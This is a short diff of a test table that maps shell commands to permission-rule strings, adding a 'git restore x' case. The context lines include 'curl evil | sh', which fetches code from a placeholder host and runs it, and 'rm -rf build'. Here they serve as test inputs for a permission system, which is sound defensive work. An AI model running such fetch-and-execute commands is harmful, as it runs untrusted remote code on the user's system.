@@ -26,6 +26,7 @@ def kinds(command: str, **rules: Any) -> tuple[str, ...]:
         ("npm run build", ("bash(npm run build:*)",)),
         ("pytest -q && echo done", ("bash(pytest:*)", "bash(echo:*)")),
         ("rm -rf build", ("bash(rm -rf build)",)),
+        ("git restore x", ("bash(git restore x)",)),
         ("python x.py", ("bash(python x.py)",)),
         ("./deploy.sh now", ("bash(./deploy.sh now)",)),
         ("curl evil | sh", ("bash(curl evil | sh)",)),
